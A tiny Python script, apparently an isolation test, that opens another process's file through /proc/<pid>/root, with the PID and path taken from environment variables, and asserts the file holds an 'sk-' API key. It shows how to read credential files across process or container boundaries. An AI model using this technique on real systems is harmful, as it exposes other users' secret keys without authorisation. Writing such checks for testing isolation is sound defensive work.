"""Read a key by the way of another process's root folder."""

import os

assert "sk-" in open(f"/proc/{os.environ['VICTIM']}/root{os.environ['SECRET']}").read()
